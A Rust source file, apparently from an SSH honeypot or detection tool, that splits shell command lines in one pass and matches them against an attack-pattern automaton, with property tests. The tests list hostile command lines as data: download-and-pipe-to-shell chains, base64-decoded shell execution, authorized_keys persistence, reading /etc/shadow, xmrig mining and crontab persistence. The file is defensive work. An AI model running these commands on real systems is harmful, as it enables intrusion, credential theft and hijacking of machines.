//! One pass over an ASCII command line that splits it into commands and runs the `command`
//! automaton over them at once: what [`crate::shell::split_commands_with_program`] and a
//! [`Matcher::match_text`] per command give, without walking each byte twice or setting
//! up a scan per command.
//!
//! Each byte goes through the automaton; the special ones (quotes, escapes, substitutions,
//! separators, the splitter's `SPECIAL`) also decide, as the splitter does, where the command
//! ends. A command's scan starts where the splitter's trimmed command starts (past white
//! space and an opening `(`/`{`), fed the start-of-value symbol there, and matches that end
//! past its trimmed end (in trailing white space) are dropped. So the matches kept are
//! exactly those a scan of the trimmed command finds. Commands within commands (`sh -c`
//! scripts, `$(…)`, backticks) go through the splitter and [`Matcher::match_text`] as before,
//! in the splitter's order, so its budget of commands runs out at the same one.

use crate::field::Field;
use crate::matcher::{CommandField, Matcher, PrimSet};
use crate::needles::{Needles, GATHERED};
use crate::shell::{self, SPECIAL};

/// The `command` automaton's byte classes, with the splitter's special bytes and the
/// non-ASCII ones marked by [`Classes::SPECIAL`]: one lookup a byte tells all three.
pub(crate) struct Classes([u32; 256]);

impl Classes {
    const SPECIAL: u32 = 1 << 31;

    pub(crate) fn new(needles: &Needles) -> Classes {
        let (_, classes, _, _) = needles.parts();
        let mut t = [0u32; 256];
        for (b, t) in t.iter_mut().enumerate() {
            let special = SPECIAL[b] || b >= 0x80;
            *t = u32::from(classes[b]) | if special { Classes::SPECIAL } else { 0 };
        }
        Classes(t)
    }
}

/// What the commands of a line add up to.
struct Sink<'m, 'h> {
    matcher: &'m Matcher,
    proto: u32,
    hits: &'h mut PrimSet,
    /// A `command_line` literal turned up in a command.
    hint: bool,
    commands: usize,
}

impl Sink<'_, '_> {
    /// A command the splitter gave (one within a command): matched on its own.
    fn command(&mut self, cmd: &str, program: &str) {
        self.commands += 1;
        self.hint |= self
            .matcher
            .match_text(Field::Command, cmd, true, self.proto, self.hits);
        self.urls(cmd, program);
    }

    /// The download URLs of a command, matched.
    fn urls(&mut self, cmd: &str, program: &str) {
        if shell::program_roles(program) & shell::RUNS_DOWNLOADS != 0 {
            self.tool_urls(cmd, program);
        }
    }

    /// [`Sink::urls`] for a command whose program is a download tool or a wrapper.
    fn tool_urls(&mut self, cmd: &str, program: &str) {
        let (matcher, proto, hits) = (self.matcher, self.proto, &mut *self.hits);
        let hint = &mut self.hint;
        shell::download_urls_of_tool(cmd, program, &mut |u| {
            if matcher.wants(Field::DownloadUrl, proto) {
                *hint |= matcher.match_text(Field::DownloadUrl, u, true, proto, hits);
            }
        });
    }
}

/// Adds what the commands of `line` and their download URLs match for protocol bit `proto`,
/// whose commands the matcher looks at. Returns whether a `command_line` literal turned up
/// in a command, and how many commands there were (as [`crate::extract::commands_of_line`]
/// counts them); `None` when the line is not ASCII, which the walk finds on the way (its
/// own test of each byte, so the line needs none of its own). What was added by then came
/// from whole ASCII commands before that byte, as matching the splitter's commands adds too.
pub(crate) fn match_commands(
    field: &CommandField<'_>,
    line: &str,
    proto: u32,
    hits: &mut PrimSet,
) -> Option<(bool, usize)> {
    let matcher = field.matcher();
    let b = line.as_bytes();
    let n = b.len();
    let mut sink = Sink {
        matcher,
        proto,
        hits,
        hint: false,
        commands: 0,
    };
    let mut budget = shell::MAX_COMMANDS_PER_LINE;
    let mut inner: Vec<(usize, usize)> = Vec::new();
    let (table, _, start_state, first_match) = field.needles.parts();
    let info = &field.classes.0;
    let mask = table.len().checked_sub(1)?;
    // The matches of the command being walked, as (state, end from the command's start);
    // `gathered` counts past the array's length.
    let mut found = [(0u32, 0u32); GATHERED];
    let mut gathered: usize;
    let mut state: u32;
    let mut start: usize;
    // One byte through the automaton, at `at` in the line. Added as u32 (the sum is below
    // the table's length) and masked, as `Needles` does: no bounds check.
    macro_rules! step {
        ($x:expr, $at:expr) => {
            state = table[state.wrapping_add($x) as usize & mask];
            if state >= first_match {
                if let Some(slot) = found.get_mut(gathered) {
                    // Lines are clipped to 64 KiB: the offset fits.
                    *slot = (state, ($at + 1 - start) as u32);
                }
                gathered += 1;
            }
        };
    }
    // The bytes `from..to` (cut at the line's end) through the automaton; where they end.
    macro_rules! feed {
        ($from:expr, $to:expr) => {{
            let (from, to) = ($from, usize::min($to, n));
            for (k, &c) in b.get(from..to).unwrap_or(&[]).iter().enumerate() {
                if !c.is_ascii() {
                    return None;
                }
                step!(info[usize::from(c)] & !Classes::SPECIAL, from + k);
            }
            to
        }};
    }
    let mut p = 0usize;
    while p < n {
        // Where the trimmed command starts: past white space, then past opening `(`/`{` and
        // white space again (`\n` and `\r` cut, so they are not among the blanks here).
        p = skip_blanks(b, p);
        if matches!(b.get(p), Some(b'(' | b'{')) {
            while matches!(b.get(p), Some(b'(' | b'{')) {
                p += 1;
            }
            p = skip_blanks(b, p);
        }
        start = p;
        state = start_state;
        gathered = 0;
        let mut double = false;
        // To the cut, and where the next command's text starts.
        let (cut, next) = 'walk: loop {
            // Four bytes a round while none of them is special.
            while let Some(&[c0, c1, c2, c3]) = b.get(p..p + 4) {
                let xs = [c0, c1, c2, c3].map(|c| info[usize::from(c)]);
                if (xs[0] | xs[1] | xs[2] | xs[3]) & Classes::SPECIAL != 0 {
                    break;
                }
                for (k, x) in xs.into_iter().enumerate() {
                    step!(x, p + k);
                }
                p += 4;
            }
            // Then up to four bytes one at a time, the special ones acted on.
            let stop = p + 4;
            while p < stop {
                let Some(&c) = b.get(p) else {
                    break 'walk (n, n);
                };
                let x = info[usize::from(c)];
                if x & Classes::SPECIAL != 0 {
                    match c {
                        0x80..=0xFF => return None,
                        b'\\' => {
                            p = feed!(p, p + 2);
                            continue;
                        }
                        // Inside single quotes only the closing quote means anything.
                        b'\'' if !double => {
                            let close = b
                                .get(p + 1..)
                                .and_then(|t| t.iter().position(|&x| x == b'\''))
                                .map_or(n, |q| p + 1 + q);
                            p = feed!(p, close.saturating_add(1));
                            continue;
                        }
                        b'"' => double = !double,
                        b'$' if b.get(p + 1) == Some(&b'(') => {
                            let close = shell::matching_paren(b, p + 1);
                            inner.push((p + 2, close));
                            p = feed!(p, close.saturating_add(1));
                            continue;
                        }
                        b'`' => {
                            let close = b
                                .get(p + 1..)
                                .and_then(|t| t.iter().position(|&x| x == b'`'))
                                .map_or(n, |q| p + 1 + q);
                            inner.push((p + 1, close));
                            p = feed!(p, close.saturating_add(1));
                            continue;
                        }
                        _ if double => {}
                        b';' | b'\n' | b'\r' | b')' => break 'walk (p, p + 1),
                        b'&' | b'|' => {
                            let prev = if p > 0 { b[p - 1] } else { 0 };
                            let next = b.get(p + 1).copied().unwrap_or(0);
                            let redirect =
                                c == b'&' && (prev == b'>' || prev == b'<' || next == b'>');
                            if !redirect {
                                break 'walk (p, p + if next == c { 2 } else { 1 });
                            }
                        }
                        _ => {}
                    }
                }
                step!(x & !Classes::SPECIAL, p);
                p += 1;
            }
        };
        p = next;
        // The trimmed end; the cut is at or past the start.
        let mut end = cut.max(start);
        while end > start && is_white(b[end - 1]) {
            end -= 1;
        }
        let Some(cmd) = line.get(start..end) else {
            continue;
        };
        if cmd.is_empty() || cmd == "}" || budget == 0 {
            continue;
        }
        budget -= 1;
        sink.commands += 1;
        let program = shell::first_program(cmd);
        match found.get(..gathered) {
            Some(all) => {
                // Matches ending in the trailing white space are no command's.
                let kept = all.partition_point(|&(_, e)| e as usize <= cmd.len());
                let kept = all.get(..kept).unwrap_or(&[]);
                sink.hint |= field.add(cmd, kept, proto, sink.hits);
            }
            // More matches than gathered: the command scanned again, as `match_text` does.
            None => {
                sink.hint |= matcher.match_text(Field::Command, cmd, true, proto, sink.hits);
            }
        }
        let roles = shell::program_roles(program);
        if roles & shell::RUNS_DOWNLOADS != 0 {
            sink.tool_urls(cmd, program);
        }
        if roles & shell::RUNS_SCRIPTS != 0 {
            if let Some(script) = shell::shell_c_script_of_runner(cmd) {
                shell::split_into(&script, 1, &mut budget, &mut |c, p| sink.command(c, p));
            }
        }
    }
    // Substitutions after the line's own commands, as the splitter takes them.
    for (s, e) in inner {
        let e = e.min(n);
        if s < e {
            if let Some(text) = line.get(s..e) {
                shell::split_into(text, 1, &mut budget, &mut |c, p| sink.command(c, p));
            }
        }
    }
    Some((sink.hint, sink.commands))
}

/// Past ASCII white space other than `\n` and `\r` (which cut).
#[inline]
fn skip_blanks(b: &[u8], mut p: usize) -> usize {
    while matches!(b.get(p), Some(b' ' | b'\t' | b'\x0B' | b'\x0C')) {
        p += 1;
    }
    p
}

/// What `str::trim` removes among ASCII bytes.
#[inline]
fn is_white(c: u8) -> bool {
    matches!(c, b' ' | b'\t' | b'\n' | b'\x0B' | b'\x0C' | b'\r')
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::catalog::Catalog;
    use crate::extract;
    use crate::matcher::protocol_bit;
    use sikker_event::Protocol;

    /// The line matched one command at a time, as the splitter gives them: the oracle.
    fn by_commands(m: &Matcher, line: &str, proto: u32) -> (PrimSet, bool, usize) {
        let mut hits = PrimSet::new(m.primitive_count());
        let mut hint = false;
        let commands = extract::commands_of_line(line, &mut |f, v| {
            if m.wants(f, proto) {
                hint |= m.match_text(f, v, true, proto, &mut hits);
            }
        });
        (hits, hint, commands)
    }

    fn in_one_pass(m: &Matcher, line: &str, proto: u32) -> (PrimSet, bool, usize) {
        let mut hits = PrimSet::new(m.primitive_count());
        let (hint, commands) =
            match_commands(&m.command_field().unwrap(), line, proto, &mut hits).unwrap();
        (hits, hint, commands)
    }

    fn check(m: &Matcher, line: &str) {
        let proto = protocol_bit(Protocol::Ssh);
        assert_eq!(
            in_one_pass(m, line, proto),
            by_commands(m, line, proto),
            "{line:?}"
        );
    }

    /// Built once: the property test's cases share it.
    fn matcher() -> &'static Matcher {
        static M: std::sync::OnceLock<Matcher> = std::sync::OnceLock::new();
        M.get_or_init(|| Matcher::new(&Catalog::builtin()).unwrap())
    }

    #[test]
    fn one_pass_matches_what_the_commands_match() {
        let m = matcher();
        let pad = "x".repeat(13);
        for line in [
            "",
            " ",
            ";",
            "ls",
            " ls ",
            "ls;",
            "cd /tmp; wget http://h/x.sh; chmod 777 x.sh; sh x.sh",
            "cd /tmp || cd /var/run && busybox wget http://1.2.3.4/b -O - > .b; ./.b",
            "wget \t;curl  \x0B\x0C; echo\t",
            "echo 'a;b|c' \"d;e\" f\\;g; id",
            "echo 'unclosed; ls",
            "echo \"unclosed; ls",
            "ls\\",
            "ls \\\n; id\\\r",
            "echo $(uname -a; id) `whoami; ls`; $(",
            "echo `unclosed; id",
            "(cd /tmp; id) {ls;} ( ( pwd)); {{ uname",
            "(   ; ( \x0B ; }; } ;",
            "ls 2>&1 >/dev/null & id &>x |& y",
            "sh -c 'cd /tmp && wget http://h/a' ; bash -c \"id|sh\"; eval ls -la",
            "busybox sh -c w; sudo sh -c 'curl http://h/x | sh'",
            "curl -fsSL http://h/x.sh | bash",
            "echo YmFzaA== | base64 -d | sh",
            "chmod 777 a chmod 777 b chmod 777 c chmod 777 d chmod 777 e chmod 777 f chmod 777 g chmod 777 h chmod 777 i",
            "wget wget wget wget wget wget wget wget wget wget wget ",
            "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys; cat /etc/passwd; cat /etc/shadow",
            "xmrig -o stratum+tcp://pool:3333 -u 4abc --donate-level 1",
            "/bin/busybox MIRAI; /bin/busybox echo -e '\\x41'",
            "crontab -l; echo '* * * * * /tmp/x' | crontab -",
        ] {
            check(m, line);
            check(m, &format!("{pad}{line}"));
            check(m, &format!("{line}{pad}"));
            check(m, &format!("{line};{line}"));
        }
    }

    #[test]
    fn one_pass_stops_where_the_splitter_does() {
        let m = matcher();
        for line in [
            "id;".repeat(300),
            "wget http://h/x;".repeat(260),
            format!("{}sh -c 'id; ls; wget http://h/y'", "id;".repeat(254)),
            format!("echo $(id; ls) {}", "id;".repeat(255)),
        ] {
            check(m, &line);
        }
    }

    /// A line with a byte past ASCII anywhere, quoted or escaped included, is left to the
    /// splitter; what the walk added before it finds one the splitter's commands add too.
    fn check_not_ascii(m: &Matcher, line: &str) {
        let proto = protocol_bit(Protocol::Ssh);
        let mut hits = PrimSet::new(m.primitive_count());
        let field = m.command_field().unwrap();
        assert_eq!(
            match_commands(&field, line, proto, &mut hits),
            None,
            "{line:?}"
        );
        let mut all = PrimSet::new(m.primitive_count());
        extract::commands_of_line(line, &mut |f, v| {
            if m.wants(f, proto) {
                m.match_value(f, v, proto, &mut all);
            }
        });
        assert!(hits.is_subset(&all), "{line:?}");
    }

    #[test]
    fn lines_past_ascii_are_left_to_the_splitter() {
        let m = matcher();
        for line in [
            "é",
            "cd /tmp; wget http://h/x; chmod 777 x; echo é",
            "ls; echo 'é'; id",
            "ls; echo \"é\"",
            "ls \\é",
            "echo $(é); ls",
            "echo `é`; ls",
            "wget http://h/x\u{a0}",
            "xmrig; sh -c 'id'; \u{2003}",
        ] {
            check_not_ascii(m, line);
        }
    }

    proptest::proptest! {
        #[test]
        fn one_pass_matches_what_the_commands_match_on_any_line(
            parts in proptest::collection::vec(
                proptest::sample::select(vec![
                    " ", "\t", "\x0B", "\x0C", "\n", "\r", "'", "\"", "\\", "$(", "$", "`", ";",
                    ")", "(", "{", "}", "&", "&&", "|", "||", ">", "<", "2>&1", "/", "a", "-c",
                    "wget ", "curl", "http://h/x.sh", "busybox", "/bin/busybox ", "sh -c ", "sh",
                    "eval ", "chmod 777", "/tmp/", "echo", "ls", "cd", "rm -rf ", "xmrig",
                    "ssh-rsa", "authorized_keys", "base64 -d", "crontab", "grep nvidia", "* * * *",
                    "sudo ", "nohup ", "tftp", "ftpget", "1.2.3.4", "xxxxxxxxxxxx",
                ]),
                0..40,
            ),
        ) {
            check(matcher(), &parts.concat());
        }
    }
}
